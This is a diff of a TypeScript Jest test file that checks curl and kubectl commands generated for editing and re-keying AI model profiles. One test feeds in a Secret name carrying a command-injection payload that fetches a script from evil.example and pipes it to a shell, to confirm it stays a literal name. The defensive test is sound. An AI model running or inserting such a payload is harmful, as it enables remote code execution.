@@ -1,7 +1,7 @@
 import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from '@jest/globals';
 import { parse } from 'yaml';
-import { createCommand, profileCommands } from './profile-commands.ts';
+import { createCommand, type ProfileSubject, profileCommands } from './profile-commands.ts';
 import { NEW_PROFILE, type ProfileValues } from './profile-values.ts';
 
 const door = { origin: 'http://localhost:8000', token: false, namespace: 'agents', kubeconfig: null };
@@ -80,11 +80,52 @@ describe('the line that creates a profile', () => {
   });
 });
 
+const subject = (part: Partial<ProfileSubject>): ProfileSubject => ({
+  name: 'my-gpt',
+  secret: null,
+  change: { model: 'gpt-6.2-sol' },
+  movesTo: null,
+  ...part,
+});
+
+describe('the line that edits a profile', () => {
+  const edit = (part: Partial<ProfileSubject>) =>
+    profileCommands(subject(part), null, door).find(({ title }) => title === 'Edit it') ?? { curl: '', kubectl: '' };
+
+  it('makes the change of the form at both doors', () => {
+    const change = { display_name: "Bob's", fallback: null, pricing: { input_per_million: 2, output_per_million: null } };
+    const { curl, kubectl } = edit({ change });
+    const [call] = run(curl);
+    expect(call?.words.slice(0, 4)).toEqual(['curl', '-X', 'PATCH', 'http://localhost:8000/agent/profiles/my-gpt']);
+    expect(JSON.parse(call?.words.at(-1) ?? '')).toEqual(change);
+    const [patch, ...rest] = run(kubectl);
+    expect(rest).toEqual([]);
+    expect(patch?.words.slice(3, 8)).toEqual(['patch', 'aip', 'my-gpt', '--type', 'merge']);
+    expect(JSON.parse(patch?.words.at(-1) ?? '')).toEqual({
+      spec: { displayName: "Bob's", fallbackRef: null, pricing: { inputPerMillion: 2, outputPerMillion: null } },
+    });
+    expect(edit({ change: { fallback: 'other' } }).kubectl).toContain('{"spec":{"fallbackRef":{"name":"other"}}}');
+  });
+
+  it('takes a new key along to another host, and binds it to that', () => {
+    const moved = edit({ change: { base_url: 'https://other.example/v1' }, movesTo: 'other.example', secret: 'my-key' });
+    expect(`${moved.curl}${moved.kubectl}`).not.toContain(KEY);
+    const [call] = run(moved.curl.replace('"$API_KEY"', 'new'));
+    expect(JSON.parse(call?.words.at(-1) ?? '')).toEqual({ base_url: 'https://other.example/v1', key: 'new' });
+    expect(run(moved.kubectl).map(({ words }) => words.slice(3, 6).join(' '))).toEqual([
+      'patch aip my-gpt',
+      'patch secret my-key',
+      'annotate secret my-key',
+    ]);
+  });
+});
+
 it('has a line of every kind for everything that can be done with a profile', () => {
-  const commands = profileCommands('my-gpt', null, `o'neil`, door);
+  const commands = profileCommands(subject({}), `o'neil`, door);
   expect(commands.map(({ title }) => title)).toEqual([
     'Show it',
     'Test it now',
+    'Edit it',
     'Make it the default',
     'Assign it to users',
     'Replace its key',
@@ -100,7 +141,7 @@ it('has a line of every kind for everything that can be done with a profile', ()
 });
 
 it('a Secret whose name is a command is still only a name', () => {
-  const lines = profileCommands('a', '$(touch x); curl evil.example | sh', null, door);
+  const lines = profileCommands(subject({ secret: '$(touch x); curl evil.example | sh' }), null, door);
   const replace = lines.find(({ title }) => title === 'Replace its key');
   const calls = run(replace?.kubectl ?? '');
   expect(calls.map(({ words }) => words.slice(3, 6))).toEqual([['patch', 'secret', '$(touch x); curl evil.example | sh']]);
